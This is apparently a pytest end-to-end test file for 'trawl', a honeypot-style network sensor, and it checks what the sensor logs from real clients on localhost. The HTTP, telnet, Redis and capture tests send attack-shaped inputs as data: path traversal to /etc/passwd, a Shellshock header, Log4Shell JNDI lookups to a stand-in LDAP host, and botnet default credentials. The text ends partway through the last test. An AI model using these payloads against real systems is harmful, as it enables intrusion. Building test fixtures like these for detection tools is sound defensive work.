"""trawl sensor on 127.0.0.1 high ports, with real clients (ssh, curl, openssl,
redis-cli, python sockets): the JSONL events carry what each client sent."""
import base64
import hashlib
import http.server
import json
import os
import re
import shutil
import signal
import socket
import struct
import subprocess
import threading
import time

import pytest

from conftest import ROOT, free_port


def need(tool):
    if not shutil.which(tool):
        pytest.skip("%s is not installed (scripts/install-deps.sh installs it)" % tool)


_started = []


@pytest.fixture(autouse=True)
def no_sensor_left_behind():
    """A failing test must not leave its sensor running."""
    yield
    while _started:
        s = _started.pop()
        if s.proc.poll() is None:
            s.proc.kill()
            s.proc.wait()


class Sensor:
    def __init__(self, trawl, tmp_path, *extra, tcp=None, udp="", name="e2e"):
        self.ports = {}
        spec = []
        for role in (tcp or ["ssh", "telnet", "http", "tls", "redis", "smb", "rdp", "raw"]):
            self.ports[role] = free_port()
            r = role if role in ("ssh", "telnet", "redis") else ""
            spec.append("%d%s" % (self.ports[role], "/" + r if r else ""))
        self.udp_port = free_port() if udp else None
        self.out = str(tmp_path / ("events-%d.jsonl" % free_port()))
        argv = trawl.cmd("sensor", "--bind", "127.0.0.1", "--name", name, "--tcp", ",".join(spec),
                         "--udp", str(self.udp_port) if udp else "", "--out", self.out,
                         "--no-store", *extra)
        self.proc = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                     text=True)
        _started.append(self)
        self.log = []
        while True:
            line = self.proc.stderr.readline()
            if not line:
                raise AssertionError("sensor did not start: %s" % "".join(self.log))
            self.log.append(line)
            if "sensor listening" in line:
                break
        self.reader = threading.Thread(target=self._drain, daemon=True)
        self.reader.start()

    def _drain(self):
        for line in self.proc.stderr:
            self.log.append(line)

    def events(self):
        if not os.path.exists(self.out):
            return []
        with open(self.out) as f:
            return [json.loads(l) for l in f if l.strip()]

    def wait_events(self, pred, count=1, timeout=30):
        deadline = time.time() + timeout
        while time.time() < deadline:
            got = [e for e in self.events() if pred(e)]
            if len(got) >= count:
                return got
            time.sleep(0.05)
        raise AssertionError("wanted %d matching events, have: %s" % (count, self.events()))

    def on(self, role):
        return self.wait_events(lambda e: e["dst_port"] == self.ports[role])

    def stop(self):
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            self.proc.wait(timeout=30)
        self.reader.join(timeout=5)
        return self.proc.returncode


@pytest.fixture
def sensor(trawl, tmp_path):
    s = Sensor(trawl, tmp_path, udp=True)
    yield s
    assert s.stop() == 0


def test_ssh_client_version_and_hassh(sensor):
    need("ssh")
    p = subprocess.run(["ssh", "-vv", "-o", "StrictHostKeyChecking=no", "-o",
                        "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "-p",
                        str(sensor.ports["ssh"]), "root@127.0.0.1", "true"],
                       capture_output=True, text=True, timeout=30)
    # The client's own account of its KEXINIT lists: the HASSH input.
    lines = p.stderr.splitlines()
    start = next(i for i, l in enumerate(lines) if "local client KEXINIT proposal" in l)
    prop = {}
    for l in lines[start + 1:start + 12]:
        m = re.match(r"debug2: ([^:]+): (.*)", l)
        if m:
            prop.setdefault(m.group(1), m.group(2))
    want = hashlib.md5(";".join([prop["KEX algorithms"], prop["ciphers ctos"], prop["MACs ctos"],
                                 prop["compression ctos"]]).encode()).hexdigest()
    version = re.search(r"Local version string (.+)", p.stderr).group(1).strip()
    # it saw our banner and our KEXINIT
    assert "remote software version OpenSSH_8.9p1" in p.stderr
    [e] = sensor.on("ssh")
    assert e["proto"] == "ssh" and e["sensor"] == "e2e" and e["transport"] == "tcp"
    assert e["src_ip"] == "127.0.0.1" and e["dst_ip"] == "127.0.0.1"
    assert e["fields"]["ssh_client"] == version
    assert e["fields"]["hassh"] == want
    assert base64.b64decode(e["payload_b64"]).startswith(version.encode() + b"\r\n")


def test_http_exploit_shaped_requests(sensor):
    need("curl")
    base = "http://127.0.0.1:%d" % sensor.ports["http"]
    code = lambda *a: subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", *a],
                                     capture_output=True, text=True, timeout=30).stdout
    assert code(base + "/") == "200"
    assert code("--path-as-is", base + "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd") == "404"
    assert code("-A", "() { :;}; echo; /bin/bash -c 'cat /etc/passwd'", base + "/cgi-bin/status") == "404"
    assert code("-H", "X-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}",
                "-d", "s=${${lower:j}ndi:ldap://198.51.100.7/x}",
                base + "/index.php?s=/Index/\\think\\app/invokefunction") == "404"
    evs = sensor.wait_events(lambda e: e["dst_port"] == sensor.ports["http"], count=4)
    by_path = {e["fields"]["http_path"]: e for e in evs}
    assert by_path["/"]["fields"]["http_method"] == "GET"
    assert by_path["/"]["fields"]["http_user_agent"].startswith("curl/")
    assert "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd" in by_path
    assert by_path["/cgi-bin/status"]["fields"]["http_user_agent"].startswith("() { :;};")
    post = by_path["/index.php"]
    assert post["fields"]["http_method"] == "POST"
    assert post["fields"]["http_query"] == "s=/Index/\\\\think\\\\app/invokefunction"
    assert post["fields"]["http_body"] == "s=${${lower:j}ndi:ldap://198.51.100.7/x}"
    assert b"X-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}" in base64.b64decode(post["payload_b64"])
    assert all(e["proto"] == "http" for e in evs)


def test_tls_client_hello(sensor):
    need("openssl")
    need("curl")
    port = sensor.ports["tls"]
    subprocess.run(["openssl", "s_client", "-connect", "127.0.0.1:%d" % port, "-servername",
                    "sensor.example"], stdin=subprocess.DEVNULL, capture_output=True, timeout=30)
    subprocess.run(["curl", "-sk", "--resolve", "www.example.org:%d:127.0.0.1" % port,
                    "https://www.example.org:%d/" % port], capture_output=True, timeout=30)
    evs = sensor.wait_events(lambda e: e["dst_port"] == port, count=2)
    by_sni = {e["fields"]["tls_sni"]: e for e in evs}
    for e in evs:
        f = e["fields"]
        assert e["proto"] == "tls"
        assert f["ja3_hash"] == hashlib.md5(f["ja3"].encode()).hexdigest()
        assert re.fullmatch(r"t13d\d{4}[0-9a-z]{2}_[0-9a-f]{12}_[0-9a-f]{12}", f["ja4"])
    assert by_sni["www.example.org"]["fields"]["ja4"][8:10] == "h2"      # curl offers h2 first
    assert by_sni["sensor.example"]["fields"]["ja4"][8:10] == "00"       # s_client: no ALPN


def recv_until(s, token, timeout=10):
    s.settimeout(timeout)
    data = b""
    while token not in data:
        d = s.recv(4096)
        if not d:
            break
        data += d
    return data


def test_telnet_login_attempt(sensor):
    s = socket.create_connection(("127.0.0.1", sensor.ports["telnet"]))
    hello = recv_until(s, b"login: ")
    assert hello.startswith(b"\xff")          # it negotiates like a telnet server
    s.sendall(b"\xff\xfc\x01\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0root\r\n")
    assert b"Password: " in recv_until(s, b"Password: ")
    s.sendall(b"xc3511\r\n")
    assert b"Login incorrect" in recv_until(s, b"incorrect")
    s.close()
    [e] = sensor.on("telnet")
    assert e["proto"] == "telnet"
    assert e["fields"]["username"] == "root"
    assert e["fields"]["password"] == "xc3511"


def smb2_negotiate(compression):
    dialects = [0x0202, 0x0210, 0x0300, 0x0302, 0x0311]
    hdr = b"\xfeSMB" + struct.pack("<H", 64) + b"\0" * 58
    ctx_off = 64 + 36 + 2 * len(dialects)
    ctx_off += (-ctx_off) % 8
    ctxs = [(1, struct.pack("<HH", 1, 32) + b"\x11" * 32)]
    if compression:   # SMB2_COMPRESSION_CAPABILITIES: LZNT1, LZ77, LZ77+Huffman
        ctxs.append((3, struct.pack("<HHI", 3, 0, 0) + struct.pack("<HHH", 1, 2, 3)))
    body = struct.pack("<HHHHI16sIHH", 36, len(dialects), 1, 0, 0x7f, b"\x22" * 16, ctx_off,
                       len(ctxs), 0) + b"".join(struct.pack("<H", d) for d in dialects)
    msg = hdr + body
    msg += b"\0" * (ctx_off - len(msg))
    for i, (t, data) in enumerate(ctxs):
        msg += struct.pack("<HHI", t, len(data), 0) + data
        if i + 1 < len(ctxs):
            msg += b"\0" * ((-len(msg)) % 8)
    return struct.pack(">I", len(msg)) + msg


def test_smb_rdp_redis_raw_udp(sensor):
    s = socket.create_connection(("127.0.0.1", sensor.ports["smb"]))
    s.sendall(smb2_negotiate(True))
    assert s.recv(100) == b""                 # read the NEGOTIATE, then close
    s.close()
    cr = b"Cookie: mstshash=Administr\r\n" + struct.pack("<BBHI", 1, 0, 8, 3)
    x224 = bytes([6 + len(cr), 0xE0, 0, 0, 0, 0, 0]) + cr
    s = socket.create_connection(("127.0.0.1", sensor.ports["rdp"]))
    s.sendall(struct.pack(">BBH", 3, 0, 4 + len(x224)) + x224)
    cc = s.recv(100)
    assert cc[:2] == b"\x03\x00" and cc[5] == 0xD0      # X.224 Connection Confirm
    s.close()
    s = socket.create_connection(("127.0.0.1", sensor.ports["redis"]))
    s.sendall(b"*3\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n*2\r\n$4\r\nAUTH\r\n$3\r\nfoo\r\n")
    assert recv_until(s, b"+OK\r\n") == b"-NOAUTH Authentication required.\r\n+OK\r\n"
    s.close()
    s = socket.create_connection(("127.0.0.1", sensor.ports["raw"]))
    s.sendall(b"\x00\x01binary-probe")
    s.shutdown(socket.SHUT_WR)
    s.recv(10)
    s.close()
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\n\r\n", ("127.0.0.1", sensor.udp_port))
    u.close()

    [e] = sensor.on("smb")
    assert e["proto"] == "smb"
    assert e["fields"]["smb_dialects"] == "0x0202,0x0210,0x0300,0x0302,0x0311"
    assert e["fields"]["smb_compression"] == "1"
    assert e["fields"]["smb_compression_algorithms"] == "0x0001,0x0002,0x0003"
    [e] = sensor.on("rdp")
    assert e["proto"] == "rdp" and e["fields"]["rdp_cookie"] == "Administr"
    assert e["fields"]["rdp_protocols"] == "3"
    [e] = sensor.on("redis")
    assert e["proto"] == "redis" and e["fields"]["redis_command"] == "CONFIG SET dir"
    [e] = sensor.on("raw")
    assert e["proto"] == "raw" and base64.b64decode(e["payload_b64"]) == b"\x00\x01binary-probe"
    [e] = sensor.wait_events(lambda e: e["transport"] == "udp")
    assert e["dst_port"] == sensor.udp_port and e["dst_ip"] == "127.0.0.1"
    assert base64.b64decode(e["payload_b64"]).startswith(b"M-SEARCH")


def test_redis_cli(sensor):
    need("redis-cli")
    p = subprocess.run(["redis-cli", "-h", "127.0.0.1", "-p", str(sensor.ports["redis"]),
                        "CONFIG", "GET", "dir"], capture_output=True, text=True, timeout=30)
    assert "NOAUTH" in p.stdout + p.stderr
    [e] = sensor.on("redis")
    assert e["fields"]["redis_command"] == "CONFIG GET dir"


def test_idle_connection_and_many_at_once(trawl, tmp_path):
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    n = 1500
    if hard < n + 100:
        pytest.skip("RLIMIT_NOFILE hard limit %d is below %d" % (hard, n + 100))
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, n + 100), hard))
    s = Sensor(trawl, tmp_path, "--idle", "1", tcp=["raw"])
    try:
        # A client that sends and then says nothing is recorded after the idle timeout.
        quiet = socket.create_connection(("127.0.0.1", s.ports["raw"]))
        quiet.sendall(b"hello?")
        [e] = s.wait_events(lambda e: base64.b64decode(e.get("payload_b64", "")) == b"hello?")
        assert quiet.recv(10) == b""          # and the sensor hung up
        quiet.close()
        # Many clients at once: every one becomes exactly one event.
        socks = []
        for i in range(n):
            c = socket.create_connection(("127.0.0.1", s.ports["raw"]))
            c.sendall(b"conn-%05d" % i)
            socks.append(c)
        for c in socks:
            c.close()
        evs = s.wait_events(lambda e: e.get("payload_b64", "").startswith("Y29ubi0"), count=n)
        payloads = sorted(base64.b64decode(e["payload_b64"]) for e in evs)
        assert payloads == [b"conn-%05d" % i for i in range(n)]
    finally:
        assert s.stop() == 0


class Recorder(http.server.BaseHTTPRequestHandler):
    """A test peer for the sensor's HTTP client: records each POST; answers
    503 to the first `fail_first` requests, then 200."""
    posts = []
    fail_first = 0

    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        cls = type(self)
        if cls.fail_first > 0:
            cls.fail_first -= 1
            self.send_response(503)
            self.end_headers()
            return
        cls.posts.append((self.path, dict(self.headers), json.loads(body)))
        out = json.dumps({"accepted": len(json.loads(body)["events"])}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)

    def log_message(self, *a):
        pass


def spooled_events(spool, stopped=False):
    """The events in finished batch files; once the sensor has stopped, no
    half-written one may be left (while it runs one may be in the making)."""
    out = []
    for name in sorted(os.listdir(spool)):
        assert not (stopped and name.startswith(".tmp")), "half-written batch left in the spool"
        if name.startswith("batch-"):
            with open(os.path.join(spool, name)) as f:
                out += json.load(f)["events"]
    return out


def test_upstream_spools_while_unreachable_then_drains(trawl, tmp_path):
    need("curl")
    spool = str(tmp_path / "spool")
    closed = free_port()       # nothing listens here
    s = Sensor(trawl, tmp_path, "--upstream", "http://127.0.0.1:%d" % closed, "--key", "k-123",
               "--spool", spool, "--batch-seconds", "1", tcp=["http"])
    for i in range(3):
        subprocess.run(["curl", "-s", "http://127.0.0.1:%d/probe-%d" % (s.ports["http"], i)],
                       capture_output=True, timeout=30)
    deadline = time.time() + 30
    while time.time() < deadline and len(spooled_events(spool) if os.path.isdir(spool) else []) < 3:
        time.sleep(0.1)
    # one more, still gathering in memory when the sensor is told to stop
    subprocess.run(["curl", "-s", "http://127.0.0.1:%d/probe-3" % s.ports["http"]],
                   capture_output=True, timeout=30)
    s.wait_events(lambda e: e["fields"].get("http_path") == "/probe-3")
    assert s.stop() == 0
    log = "".join(s.log)
    assert "retrying" in log and "batches stay spooled" in log
    paths = sorted(e["fields"]["http_path"] for e in spooled_events(spool, stopped=True))
    assert paths == ["/probe-0", "/probe-1", "/probe-2", "/probe-3"]

    # Now a server that fails once (503: the batch must stay) and then accepts.
    Recorder.posts = []
    Recorder.fail_first = 1
    httpd = http.server.HTTPServer(("127.0.0.1", 0), Recorder)
    t = threading.Thread(target=httpd.serve_forever, daemon=True)
    t.start()
    try:
        s2 = Sensor(trawl, tmp_path, "--upstream", "http://127.0.0.1:%d/" % httpd.server_port,
                    "--key", "k-123", "--spool", spool, "--batch-seconds", "1", tcp=["http"])
        deadline = time.time() + 60
        while time.time() < deadline and spooled_events(spool):
            time.sleep(0.1)
        assert s2.stop() == 0
    finally:
        httpd.shutdown()
    assert Recorder.fail_first == 0
    log2 = "".join(s2.log)
    assert "batches waiting" in log2 and "HTTP 503" in log2 and "reachable again" in log2
    assert spooled_events(spool, stopped=True) == []
    got = []
    for path, headers, body in Recorder.posts:
        assert path == "/api/noise/events"
        assert headers["Authorization"] == "Bearer k-123"
        assert headers["Content-Type"] == "application/json"
        assert set(body) == {"events"}
        got += body["events"]
    assert sorted(e["fields"]["http_path"] for e in got) == paths
    assert all(e["sensor"] == "e2e" and e["proto"] == "http" for e in got)


def test_sensor_usage_errors(trawl, tmp_path):
    p = trawl.run("sensor", "--tcp", "80", "--no-store")
    assert p.returncode == 2 and "--out" in p.stderr
    p = trawl.run("sensor", "--tcp", "80x", "--out", str(tmp_path / "x"))
    assert p.returncode == 2 and "bad port" in p.stderr
    p = trawl.run("sensor", "--out", "-", "--upstream", "http://127.0.0.1:1")
    assert p.returncode == 2 and "--key" in p.stderr
    p = trawl.run("sensor", "--bind", "127.0.0.1", "--tcp", free_port(), "--udp", "", "--out", "-",
                  "--upstream", "https://x", "--key", "k")
    assert p.returncode == 1 and "http://" in p.stderr


def start_tcpdump(path, ports):
    need("tcpdump")
    if os.geteuid() != 0:
        pytest.skip("capturing on lo needs root (tcpdump)")
    warm = free_port()
    flt = " or ".join("port %d" % p for p in ports + [warm])
    td = subprocess.Popen(["tcpdump", "-i", "lo", "-U", "--immediate-mode", "-n", "-w", path, flt],
                          stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    line = td.stderr.readline()
    if "listening on" not in line:
        td.kill()
        pytest.skip("tcpdump cannot capture here: %s" % line.strip())
    # "listening on" comes before the capture really runs: knock on a port
    # nobody listens on until the capture file shows a packet.
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    deadline = time.time() + 20
    while os.path.getsize(path) <= 24 and time.time() < deadline:
        u.sendto(b"warm-up", ("127.0.0.1", warm))
        time.sleep(0.05)
    u.close()
    return td


def test_capture_import_agrees_with_live_events(trawl, tmp_path):
    """The same connections seen live by the sensor and in a tcpdump capture
    of them (imported with `trawl sensor import`) give the same fields."""
    need("curl")
    need("ssh")
    s = Sensor(trawl, tmp_path, udp=True)
    cap = str(tmp_path / "lo.pcap")
    td = start_tcpdump(cap, list(s.ports.values()) + [s.udp_port])
    try:
        subprocess.run(["curl", "-s", "-A", "${jndi:ldap://198.51.100.7/a}",
                        "http://127.0.0.1:%d/.git/config?x=1" % s.ports["http"]],
                       capture_output=True, timeout=30)
        subprocess.run(["ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                        "-o", "BatchMode=yes", "-p", str(s.ports["ssh"]), "root@127.0.0.1", "true"],
                       capture_output=True, timeout=30)
        subprocess.run(["curl", "-sk", "--resolve", "a.example:%d:127.0.0.1" % s.ports["tls"],
                        "https://a.example:%d/" % s.ports["tls"]], capture_output=True, timeout=30)
        t = socket.create_connection(("127.0.0.1", s.ports["telnet"]))
        recv_until(t, b"login: ")
        # answers to the server's DO NAWS / WILL ECHO / WILL SGA, as telnet clients
        # (and bots) send them: what marks telnet on a port with no telnet number
        t.sendall(b"\xff\xfc\x1f\xff\xfd\x01\xff\xfd\x03admin\r\n")
        recv_until(t, b"Password: ")
        t.sendall(b"admin123\r\n")
        recv_until(t, b"incorrect")
        t.close()
        m = socket.create_connection(("127.0.0.1", s.ports["smb"]))
        m.sendall(smb2_negotiate(True))
        m.recv(10)
        m.close()
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(b"\x00\x01dns?", ("127.0.0.1", s.udp_port))
        u.close()
        live = s.wait_events(lambda e: True, count=6)
        time.sleep(0.5)   # let the last FIN/ACK reach the capture
    finally:
        td.send_signal(signal.SIGINT)
        td.wait(timeout=30)
        assert s.stop() == 0
    p = trawl.run("sensor", "import", "--name", "cap", cap, check=0)
    assert " 0 bad" in p.stderr
    imported = [json.loads(l) for l in p.stdout.splitlines()]
    by_conn = {(e["transport"], e["src_port"], e["dst_port"]): e for e in imported}
    protos = set()
    for e in live:
        key = (e["transport"], e["src_port"], e["dst_port"])
        assert key in by_conn, "live event %s missing from the capture import" % (key,)
        c = by_conn[key]
        assert c["sensor"] == "cap" and c["proto"] == e["proto"], (c, e)
        assert c["fields"] == e["fields"], (c, e)
        # the capture may hold more: what the client sent after the sensor hung up
        assert base64.b64decode(c.get("payload_b64", "")).startswith(
            base64.b64decode(e.get("payload_b64", "")))
        if e["transport"] == "tcp":
            # the capture adds the packet evidence the listener cannot see
            assert c["handshake"] is True and c["ttl"] == 64 and c["tcp_options"]
        protos.add(e["proto"])
    assert protos == {"http", "ssh", "tls", "telnet", "smb", "raw"}


def test_doc_examples_run(trawl_bin):
    """The sh blocks of docs/sensor.md run as written (trawl on PATH, from the source tree)."""
    text = open(os.path.join(ROOT, "docs", "sensor.md")).read()
    blocks = re.findall(r"```sh\n(.*?)```", text, re.S)
    assert blocks
    env = dict(os.environ, PATH=os.path.dirname(trawl_bin) + ":" + os.environ["PATH"])
    p = subprocess.run(["bash", "-c", "set -euo pipefail\n" + "\n".join(blocks)], cwd=ROOT,
                       capture_output=True, text=True, env=env, timeout=60)
    assert p.returncode == 0, p.stderr
    assert p.stdout == "2\n"   # --count-only wrote no events
    assert p.stderr.count("lo_curl.pcap: 21 packets, 3 events, 0 bad") == 2


def raw_syn(dst_port, ip_id, window, seq, src_port=40000):
    """A hand-made SYN sent through a raw socket (root): the wire shape of a
    scanner's probe, which no socket API can make."""
    def csum(b):
        if len(b) % 2:
            b += b"\0"
        s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
        s = (s >> 16) + (s & 0xffff)
        s += s >> 16
        return ~s & 0xffff
    src = dst = socket.inet_aton("127.0.0.1")
    tcp = struct.pack("!HHIIBBHHH", src_port, dst_port, seq, 0, 5 << 4, 0x02, window, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", csum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ip_id, 0, 255, 6, 0, src, dst)
    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    r.sendto(ip + tcp, ("127.0.0.1", 0))
    r.close()


def test_live_capture_sees_probes_listeners_cannot(trawl, tmp_path):
    need("curl")
    if os.geteuid() != 0:
        pytest.skip("--pcap needs root (or CAP_NET_RAW)")
    s = Sensor(trawl, tmp_path, "--pcap", "lo", tcp=["http"])
    try:
        # the capture is running once a datagram to an unheard port shows up
        warm = free_port()
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        deadline = time.time() + 20
        while time.time() < deadline and not [e for e in s.events() if e["dst_port"] == warm]:
            u.sendto(b"warm-up", ("127.0.0.1", warm))
            time.sleep(0.1)
        u.close()
        # a session the listener records: once, not again from the capture
        subprocess.run(["curl", "-s", "http://127.0.0.1:%d/x" % s.ports["http"]],
                       capture_output=True, timeout=30)
        # a connection to a port nobody listens on: the kernel resets it
        closed = free_port()
        c = socket.socket()
        assert c.connect_ex(("127.0.0.1", closed)) != 0
        c.close()
        # ZMap-shaped and Mirai-shaped SYNs
        zport, mport = free_port(), free_port()
        for i in range(3):
            raw_syn(zport, 54321, 65535, 1000 + i, src_port=41000 + i)
        raw_syn(mport, 4242, 14000, 0x7f000001)
        want = {zport: "zmap", mport: "mirai"}
        # the capture's probes go out when their 60 s window closes or at exit
    finally:
        assert s.stop() == 0
    evs = s.events()
    http = [e for e in evs if e["dst_port"] == s.ports["http"]]
    assert len(http) == 1 and http[0]["proto"] == "http" and http[0]["fields"]["http_path"] == "/x"
    [rst] = [e for e in evs if e["dst_port"] == closed]
    assert rst["proto"] == "syn" and rst["handshake"] is False and rst["tcp_options"] == "2,4,8,1,3"
    assert "scanner" not in rst["fields"]
    for port, verdict in want.items():
        [e] = [e for e in evs if e["dst_port"] == port]
        assert e["proto"] == "syn" and e["fields"].get("scanner") == verdict, e
        assert e["sensor"] == "e2e"
    [z] = [e for e in evs if e["dst_port"] == zport]
    assert z["packets"] == 3 and z["ip_id"] == 54321 and z["ttl"] == 255
    assert "capture on lo" in "".join(s.log)


def test_real_telnet_client(sensor):
    """Debian's telnet client, driven through a pty like a person typing:
    its option negotiation (NAWS subnegotiation, DO ECHO...) is stripped and
    the credentials typed at the prompts come out."""
    need("telnet")
    import pty
    pid, fd = pty.fork()
    if pid == 0:
        os.execvp("telnet", ["telnet", "127.0.0.1", str(sensor.ports["telnet"])])
    seen = b""

    def wait(token):
        nonlocal seen
        deadline = time.time() + 20
        while token not in seen and time.time() < deadline:
            try:
                seen += os.read(fd, 1024)
            except OSError:
                break
        assert token in seen, seen

    try:
        wait(b"login: ")
        os.write(fd, b"admin\r")          # the Enter key
        wait(b"Password: ")
        os.write(fd, b"7ujMko0admin\r")
        wait(b"incorrect")
    finally:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        os.close(fd)
    [e] = sensor.on("telnet")
    payload = base64.b64decode(e["payload_b64"])
    assert payload.startswith(b"\xff")       # the client negotiated first
    assert e["proto"] == "telnet"
    assert e["fields"]["username"] == "admin"
    assert e["fields"]["password"] == "7ujMko0admin"


def test_ipv6_and_connection_limit(trawl, tmp_path):
    need("curl")
    if not socket.has_ipv6:
        pytest.skip("no IPv6 here")
    port = free_port()
    out = str(tmp_path / "v6.jsonl")
    proc = subprocess.Popen(trawl.cmd("sensor", "--bind", "::1", "--tcp", str(port), "--udp", "",
                                      "--max-conns", "3", "--idle", "60", "--out", out),
                            stderr=subprocess.PIPE, text=True)
    try:
        line = proc.stderr.readline()
        while line and "sensor listening" not in line:
            line = proc.stderr.readline()
        if not line:
            pytest.skip("cannot listen on ::1 here")
        held = []
        for i in range(3):    # three quiet connections fill the sensor
            c = socket.create_connection(("::1", port))
            c.sendall(b"held-%d" % i)
            held.append(c)
        extra = socket.create_connection(("::1", port))
        extra.settimeout(20)
        assert extra.recv(10) == b""           # the fourth is recorded and closed at once
        extra.close()
        for c in held:
            c.close()
        r = subprocess.run(["curl", "-s", "-g", "http://[::1]:%d/v6" % port], capture_output=True,
                           timeout=30)
        deadline = time.time() + 30
        evs = []
        while time.time() < deadline and len(evs) < 5:
            evs = [json.loads(l) for l in open(out)] if os.path.exists(out) else []
            time.sleep(0.05)
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=30)
    assert len(evs) == 5
    assert all(e["src_ip"] == "::1" and e["dst_ip"] == "::1" for e in evs)
    assert sorted(base64.b64decode(e.get("payload_b64", "")) for e in evs if e["proto"] == "raw") == \
        [b"", b"held-0", b"held-1", b"held-2"]
    [h] = [e for e in evs if e["proto"] == "http"]
    assert h["fields"]["http_path"] == "/v6"


def test_upstream_refused_batch_is_set_aside(trawl, tmp_path):
    """A 4xx means the server will never take that batch: it is kept aside
    (not deleted, not retried forever in front of the others)."""
    need("curl")

    class Refuser(http.server.BaseHTTPRequestHandler):
        def do_POST(self):
            self.rfile.read(int(self.headers["Content-Length"]))
            body = b'{"error": "event 0: property \'src_ip\' is not an IP address"}'
            self.send_response(400)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *a):
            pass

    httpd = http.server.HTTPServer(("127.0.0.1", 0), Refuser)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    spool = str(tmp_path / "spool")
    try:
        s = Sensor(trawl, tmp_path, "--upstream", "http://127.0.0.1:%d" % httpd.server_port,
                   "--key", "k", "--spool", spool, "--batch-seconds", "1", tcp=["http"])
        subprocess.run(["curl", "-s", "http://127.0.0.1:%d/a" % s.ports["http"]],
                       capture_output=True, timeout=30)
        deadline = time.time() + 30
        while time.time() < deadline and not any(n.startswith("rejected-") for n in os.listdir(spool)):
            time.sleep(0.05)
        assert s.stop() == 0
    finally:
        httpd.shutdown()
    names = os.listdir(spool)
    [rej] = [n for n in names if n.startswith("rejected-")]
    assert not [n for n in names if n.startswith("batch-")]
    with open(os.path.join(spool, rej)) as f:
        assert json.load(f)["events"][0]["fields"]["http_path"] == "/a"
    assert "src_ip" in "".join(s.log) and "refused" in "".join(s.log)


def test_ja3_agrees_with_wireshark(trawl, tmp_path):
    """JA3 of real ClientHellos (curl, openssl s_client), computed by trawl
    from a capture and, independently, by Wireshark's dissector (tshark)."""
    need("tshark")
    need("curl")
    need("openssl")
    s = Sensor(trawl, tmp_path, tcp=["tls"])
    port = s.ports["tls"]
    cap = str(tmp_path / "tls.pcap")
    td = start_tcpdump(cap, [port])
    try:
        subprocess.run(["curl", "-sk", "--resolve", "x.example:%d:127.0.0.1" % port,
                        "https://x.example:%d/" % port], capture_output=True, timeout=30)
        subprocess.run(["curl", "-sk", "--tlsv1.2", "--tls-max", "1.2", "--resolve",
                        "y.example:%d:127.0.0.1" % port, "https://y.example:%d/" % port],
                       capture_output=True, timeout=30)
        subprocess.run(["openssl", "s_client", "-connect", "127.0.0.1:%d" % port, "-servername",
                        "z.example"], stdin=subprocess.DEVNULL, capture_output=True, timeout=30)
        s.wait_events(lambda e: e["dst_port"] == port, count=3)
        time.sleep(0.5)
    finally:
        td.send_signal(signal.SIGINT)
        td.wait(timeout=30)
        assert s.stop() == 0
    p = trawl.run("sensor", "import", cap, check=0)
    ours = {e["src_port"]: e["fields"] for e in map(json.loads, p.stdout.splitlines())
            if e["proto"] == "tls"}
    t = subprocess.run(["tshark", "-r", cap, "-n", "-d", "tcp.port==%d,tls" % port, "-Y",
                        "tls.handshake.type == 1", "-T", "fields", "-e", "tcp.srcport", "-e",
                        "tls.handshake.ja3_full", "-e", "tls.handshake.ja3"],
                       capture_output=True, text=True, timeout=60)
    theirs = {int(l.split("\t")[0]): l.split("\t")[1:] for l in t.stdout.splitlines() if l.strip()}
    assert len(theirs) == 3 and set(theirs) == set(ours), (t.stdout, t.stderr, ours)
    for sport, (full, md5) in theirs.items():
        assert ours[sport]["ja3"] == full
        assert ours[sport]["ja3_hash"] == md5
    # and the live listener saw the same hellos
    live = {e["src_port"]: e["fields"]["ja3"] for e in s.events()}
    assert all(live[p] == ours[p]["ja3"] for p in ours)


def test_reused_connection_records_keep_nothing_of_the_last(trawl, tmp_path):
    """Finished connections' records and buffers are reused: each event must
    carry exactly its own bytes (a long one that outgrew the first buffer, then
    short ones after it), and the address comes from getsockname on a wildcard
    bind and from the bound address otherwise."""
    port = free_port()
    s = Sensor(trawl, tmp_path, tcp=["raw"])
    wild_port = free_port()
    w_out = str(tmp_path / "wild.jsonl")
    wild = subprocess.Popen(trawl.cmd("sensor", "--bind", "0.0.0.0", "--name", "w", "--tcp",
                                      str(wild_port), "--udp", "", "--out", w_out, "--no-store"),
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        while "sensor listening" not in (wild.stderr.readline() or "sensor listening"):
            pass
        sent = [b"L" * 9000 + b"\n", b"short-one\n", b"x\n", b"GET /two HTTP/1.0\r\n\r\n"]
        for target in (s.ports["raw"], wild_port):
            for data in sent:
                c = socket.create_connection(("127.0.0.1", target), timeout=10)
                c.sendall(data)
                c.shutdown(socket.SHUT_WR)
                try:
